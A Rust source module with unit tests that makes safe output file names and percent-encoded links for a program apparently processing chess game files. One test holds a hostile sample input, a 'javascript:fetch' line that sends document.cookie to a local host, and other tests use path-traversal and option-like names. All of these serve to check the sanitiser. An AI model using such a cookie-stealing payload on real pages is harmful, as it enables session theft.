//! The names of the files a run writes when they are made from what it reads (an input's name,
//! a game's players), and the links to them: fit for any file system, harmless in a page, and
//! one name per output of a run.

use std::collections::HashSet;
use std::ffi::{OsStr, OsString};
use std::path::{Path, PathBuf};

use percent_encoding::{AsciiSet, NON_ALPHANUMERIC, utf8_percent_encode};

use crate::input::Input;

/// The most bytes a part of a name made from something read keeps (an input's stem, a game's
/// players): two parts, a game's number, a run's number and an extension stay well within the
/// 255 bytes of a file name that the common file systems allow (ext4, XFS, Btrfs, tmpfs, APFS).
pub const PART_BYTES: usize = 80;

/// `text` as a part of a file name: letters, digits and `-` kept, every other run of characters
/// written `_` (so no separator, control, quote, space, `%`, `#`, `?` or `:`), a letter or
/// digit first (no hidden file, no name read as an option) and last, at most
/// [`PART_BYTES`] bytes (cut at a character). Empty when nothing is left.
///
/// ```text
/// "Puig, Anna"     -> "Puig_Anna"
/// "../x?y#z"       -> "x_y_z"
/// ```
pub fn part(text: &str) -> String {
    let mut out = String::new();
    for c in text.chars() {
        let c = if c.is_alphanumeric() || (c == '-' && !out.is_empty()) {
            c
        } else if out.is_empty() || out.ends_with('_') {
            continue;
        } else {
            '_'
        };
        if out.len() + c.len_utf8() > PART_BYTES {
            break;
        }
        out.push(c);
    }
    out.truncate(out.trim_end_matches(['_', '-']).len());
    out
}

/// What names an input's outputs: [`part`] of its name without the extension, `stdin` for
/// standard input, `games` when nothing is left of the name.
pub fn stem(input: &Input) -> String {
    let stem = match input {
        Input::Stdin => return "stdin".to_string(),
        Input::File(path) => path.file_stem().map(|s| part(&s.to_string_lossy())),
    };
    stem.filter(|s| !s.is_empty()).unwrap_or_else(|| "games".to_string())
}

/// The characters a link keeps as they are: ASCII letters and digits, `-`, `_`, `.` and `~`
/// (RFC 3986's unreserved characters); any other is percent-encoded as UTF-8.
const KEPT: &AsciiSet = &NON_ALPHANUMERIC.remove(b'-').remove(b'_').remove(b'.').remove(b'~');

/// The link from a page to the file `name` in its folder: `./` then the name percent-encoded,
/// so that no name can be read as a scheme (`javascript:`), a query, a fragment or an escape.
pub fn link(name: &str) -> String {
    format!("./{}", utf8_percent_encode(name, KEPT))
}

/// The names the outputs of a run have taken, so that no two share one.
#[derive(Debug, Default)]
pub struct Names {
    /// (the folder as the system resolves it, the name in lower case: some file systems do not
    /// tell letter cases apart).
    taken: HashSet<(PathBuf, String)>,
}

impl Names {
    /// The name in `dir` of an output that would be called `wanted`: `wanted` itself when no
    /// other output of the run has taken it, else the first of `x-2.ext`, `x-3.ext`, … that none
    /// has.
    pub fn claim(&mut self, dir: &Path, wanted: &OsStr) -> OsString {
        let folder = std::fs::canonicalize(dir).unwrap_or_else(|_| dir.to_path_buf());
        let mut name = wanted.to_os_string();
        let mut n = 1;
        while !self.taken.insert((folder.clone(), name.to_string_lossy().to_lowercase())) {
            n += 1;
            name = numbered(wanted, n);
        }
        name
    }
}

/// `x.ext` as `x-N.ext`.
fn numbered(name: &OsStr, n: usize) -> OsString {
    let path = Path::new(name);
    let mut out = path.file_stem().unwrap_or(name).to_os_string();
    out.push(format!("-{n}"));
    if let Some(extension) = path.extension() {
        out.push(".");
        out.push(extension);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_part_keeps_letters_digits_and_dashes_only() {
        assert_eq!(part("Puig, Anna"), "Puig_Anna");
        assert_eq!(part("../x?y#z%41"), "x_y_z_41");
        assert_eq!(part("-rf"), "rf");
        assert_eq!(part(".hidden"), "hidden");
        assert_eq!(part("Martí-Moià"), "Martí-Moià");
        assert_eq!(part("?-?"), "");
        let hostile = "javascript:fetch('http:'+String.fromCharCode(47,47)+'127.0.0.1:8765/x?'+document.cookie)<!--";
        assert_eq!(
            part(hostile),
            "javascript_fetch_http_String_fromCharCode_47_47_127_0_0_1_8765_x_document_cookie"
        );
        assert!(part(&"é".repeat(300)).len() <= PART_BYTES);
        assert_eq!(part(&"x".repeat(300)).len(), PART_BYTES);
    }

    #[test]
    fn a_stem_is_never_empty() {
        assert_eq!(stem(&Input::File("dir/games 2024.ctl-pgn".into())), "games_2024");
        assert_eq!(stem(&Input::File("%%%.ctl-pgn".into())), "games");
        assert_eq!(stem(&Input::Stdin), "stdin");
    }

    #[test]
    fn a_link_is_relative_and_percent_encoded() {
        assert_eq!(link("a-0001.html"), "./a-0001.html");
        assert_eq!(link("javascript:x"), "./javascript%3Ax");
        assert_eq!(link("a b#c%d?e.html"), "./a%20b%23c%25d%3Fe.html");
        assert_eq!(link("Moià.html"), "./Moi%C3%A0.html");
    }

    #[test]
    fn two_outputs_never_share_a_name() {
        let dir = tempfile::tempdir().unwrap();
        let mut names = Names::default();
        let claim = |names: &mut Names, dir: &Path, name: &str| {
            names.claim(dir, OsStr::new(name)).to_string_lossy().into_owned()
        };
        assert_eq!(claim(&mut names, dir.path(), "x.html"), "x.html");
        assert_eq!(claim(&mut names, dir.path(), "x.html"), "x-2.html");
        assert_eq!(claim(&mut names, dir.path(), "X.html"), "X-3.html", "case ignored");
        assert_eq!(claim(&mut names, dir.path(), "x-2.html"), "x-2-2.html");
        // The same folder by another path.
        let again = dir.path().join(".");
        assert_eq!(claim(&mut names, &again, "x.html"), "x-4.html");
        assert_eq!(claim(&mut names, &dir.path().join("sub"), "x.html"), "x.html");
        assert_eq!(claim(&mut names, dir.path(), "stdin"), "stdin");
        assert_eq!(claim(&mut names, dir.path(), "stdin"), "stdin-2");
    }
}
